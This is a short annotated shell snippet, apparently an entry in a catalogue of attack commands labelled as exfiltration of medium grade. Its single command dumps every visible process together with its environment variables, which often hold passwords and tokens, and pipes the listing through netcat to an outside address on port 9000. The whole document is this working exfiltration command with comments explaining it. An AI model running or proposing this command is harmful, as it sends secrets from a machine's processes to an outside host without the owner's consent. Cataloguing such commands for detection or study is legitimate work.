# evasion: ps axe lists every process the user can see with its environment appended; the listing leaves through netcat
# grade: medium; does: exfil
ps axeww | nc -q1 198.51.100.202 9000
